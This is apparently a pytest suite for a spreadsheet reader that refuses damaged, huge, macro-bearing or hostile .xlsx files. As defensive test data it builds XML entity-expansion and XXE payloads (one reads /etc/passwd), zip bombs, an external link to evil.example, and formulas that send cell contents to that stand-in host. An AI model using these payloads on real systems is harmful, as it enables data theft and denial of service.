"""Workbooks that are damaged, huge, of another kind or meant to do harm are refused, and the message says what to do."""

from __future__ import annotations

import io
import random
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest

from editing.sheet.guard import LIMITS, checked
from editing.sheet.reading import read_book
from kb.problems import EvregError
from tests.editing.sheet_books import Book, exported, planned
from tests.samples import small_kb

Change = Callable[[dict[str, bytes]], None]


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return small_kb(tmp_path_factory.mktemp("kb"))


@pytest.fixture(scope="module")
def good(root: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return exported(root, tmp_path_factory.mktemp("good"))


def altered(good: Path, folder: Path, change: Change, deflate: bool = True) -> Path:
    with zipfile.ZipFile(good) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    path = folder / "book.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if deflate else zipfile.ZIP_STORED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def refusal(path: Path) -> EvregError:
    with pytest.raises(EvregError) as caught:
        read_book(path)
    error = caught.value
    for part in (error.found, error.expected, error.remedy):
        assert part.en
        assert not part.ja.isascii()
    return error


def _sheet_with(text: bytes) -> Change:
    def change(parts: dict[str, bytes]) -> None:
        name = "xl/worksheets/sheet2.xml"
        parts[name] = parts[name].replace(b"<worksheet", text + b"<worksheet", 1)

    return change


def _part(name: str, content: bytes = b"<x/>") -> Change:
    return lambda parts: parts.update({name: content})


def _types(parts: dict[str, bytes]) -> None:
    name = "[Content_Types].xml"
    parts[name] = (
        parts[name]
        .replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")
        .replace(
            b"vnd.openxmlformats-officedocument.spreadsheetml.sheet.macroEnabled", b"vnd.ms-excel.sheet.macroEnabled"
        )
    )


def _image_from_outside(parts: dict[str, bytes]) -> None:
    parts["xl/worksheets/_rels/sheet2.xml.rels"] = (
        b'<Relationships><Relationship Id="r1" Type="http://x/relationships/image" Target="http://evil.example/x" '
        b'TargetMode="External"/></Relationships>'
    )


LAUGHS = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (_part("xl/vbaProject.bin"), "macros"),
        (_part("xl/macrosheets/sheet1.xml"), "macros"),
        (_types, "macros"),
        (_part("xl/externalLinks/externalLink1.xml"), "links to other files"),
        (_image_from_outside, "links to other files"),
        (_part("xl/connections.xml"), "connections"),
        (_part("xl/embeddings/oleObject1.bin"), "embedded objects"),
        (_sheet_with(LAUGHS), "entities"),
        (_sheet_with(b'<!DOCTYPE x SYSTEM "file:///etc/passwd">'), "entities"),
        (_part("xl/worksheets/sheet2.xml", '<?xml version="1.0" encoding="UTF-16"?><worksheet/>'.encode("utf-16")), "UTF-8"),
        (_part("xl/worksheets/sheet2.xml", b'<?xml version="1.0" encoding="UTF-7"?><worksheet/>'), "UTF-8"),
        (_part("xl/worksheets/sheet2.xml", b"<worksheet><sheetData><row"), "damaged"),
        (_part("xl/workbook.xml", b"<workbook/>"), ""),
        (lambda parts: parts.pop("xl/sharedStrings.xml"), ""),
        (lambda parts: parts.pop("[Content_Types].xml"), "no workbook"),
        (lambda parts: parts.pop("xl/workbook.xml"), "no workbook"),
        (_part("xl/workbook.bin"), ".xlsb"),
        (_part("xl/workbook.xml", b'<workbook xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"/>'), "Strict"),
        (_part("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ".ods"),
    ],
)  # fmt: skip
def test_what_a_workbook_must_not_hold(good: Path, tmp_path: Path, change: Change, said: str) -> None:
    assert said in refusal(altered(good, tmp_path, change)).found.en


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "empty"),
        (b"id,title\nexosome,x\n", "CSV"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, ".xls"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "password"),
        (b"\x89PNG\r\n\x1a\n\0\0\0", "no workbook"),
        (b"PK\x03\x04 and nothing more", "damaged"),
    ],
)
def test_files_of_another_kind(tmp_path: Path, content: bytes, said: str) -> None:
    path = tmp_path / "book.xlsx"
    path.write_bytes(content)
    assert said in refusal(path).found.en


def test_a_bomb_is_not_unpacked(good: Path, tmp_path: Path) -> None:
    path = altered(good, tmp_path, _part("xl/worksheets/sheet2.xml", b" " * 30_000_000))
    assert path.stat().st_size < 200_000
    began = time.process_time()
    assert "would unpack to 30 MB" in refusal(path).found.en
    assert time.process_time() - began < 2


def test_a_bomb_of_shared_strings_is_not_unpacked(good: Path, tmp_path: Path) -> None:
    text = b"<sst>" + b"<si><t>x</t></si>" * 2_000_000 + b"</sst>"
    assert "would unpack" in refusal(altered(good, tmp_path, _part("xl/sharedStrings.xml", text))).found.en


def test_many_small_files_are_not_read(good: Path, tmp_path: Path) -> None:
    def many(parts: dict[str, bytes]) -> None:
        parts.update({f"xl/x{number}.xml": b"" for number in range(LIMITS.parts)})

    assert "files are packed" in refusal(altered(good, tmp_path, many)).found.en


def test_a_file_that_is_too_large_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "book.xlsx"
    with path.open("wb") as stream:
        stream.truncate(LIMITS.file + 1)
    assert "50 MB" in refusal(path).found.en


def test_a_million_rows_are_refused_after_the_first_too_many(good: Path, tmp_path: Path) -> None:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c></row>' % (row, row, row) for row in range(1, 1_048_577))
    space = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    text = b'<worksheet xmlns="%s"><sheetData>%s</sheetData></worksheet>' % (space, rows)
    path = altered(good, tmp_path, _part("xl/worksheets/sheet2.xml", text))
    assert "1,048,576 rows" in refusal(path).found.en


def test_a_row_far_below_is_refused(good: Path, tmp_path: Path) -> None:
    book = Book(good)
    book.path = tmp_path / "book.xlsx"
    book.sheet("glossary").cell(1_048_576, 1).value = "x"
    assert "rows" in refusal(book.save()).found.en


def test_a_column_far_to_the_right_is_refused(good: Path, tmp_path: Path) -> None:
    book = Book(good)
    book.path = tmp_path / "book.xlsx"
    book.sheet("glossary").cell(5, 16_384).value = "x"
    assert "columns" in refusal(book.save()).found.en


def test_formulas_are_named_with_their_cells_and_not_calculated(root: Path, good: Path, tmp_path: Path) -> None:
    book = Book(good)
    book.path = tmp_path / "book.xlsx"
    book.cell("glossary", "title.en", "exosome").value = '=HYPERLINK("http://evil.example/?"&A1)'
    book.file.create_sheet("mine").cell(3, 3).value = '=WEBSERVICE("http://evil.example")'
    places = {str(problem.place) for problem in planned(root, book.save()).problems}
    assert {f"{book.sheet('glossary').title}!C4", "mine!C3"} <= places


def test_an_address_that_was_typed_is_no_link_to_another_file(root: Path, good: Path, tmp_path: Path) -> None:
    book = Book(good)
    book.path = tmp_path / "book.xlsx"
    cell = book.cell("sources", "url", "glossary/exosome", 1)
    cell.value = cell.hyperlink = "https://example.org/new"
    plan = planned(root, book.save())
    assert plan.ready
    assert "https://example.org/new" in next(iter(plan.drafts.values()))


def test_damaged_bytes_never_end_in_a_traceback(good: Path, tmp_path: Path) -> None:
    chance = random.Random(7)
    content = good.read_bytes()
    path = tmp_path / "book.xlsx"
    for _ in range(60):
        damaged = bytearray(content)
        for _ in range(chance.randint(1, 30)):
            damaged[chance.randrange(len(damaged))] = chance.randrange(256)
        path.write_bytes(damaged[: chance.randrange(len(damaged) // 2, len(damaged) + 1)])
        try:
            read_book(path)
        except EvregError as error:
            assert error.remedy.ja


def test_damaged_xml_never_ends_in_a_traceback(good: Path, tmp_path: Path) -> None:
    chance = random.Random(8)
    for _ in range(60):

        def change(parts: dict[str, bytes]) -> None:
            name = chance.choice([name for name in parts if name.endswith(".xml")])
            text = bytearray(parts[name])
            for _ in range(chance.randint(1, 12)):
                text[chance.randrange(len(text))] = chance.choice(b'<>/"=0123456789abcr ')
            parts[name] = bytes(text)

        try:
            read_book(altered(good, tmp_path, change))
        except EvregError as error:
            assert error.remedy.ja


def test_openpyxl_reads_with_defusedxml() -> None:
    assert openpyxl.DEFUSEDXML
    assert "defusedxml" in openpyxl.xml.functions.iterparse.__module__


def test_a_good_workbook_passes(good: Path) -> None:
    assert zipfile.ZipFile(io.BytesIO(checked(good))).testzip() is None
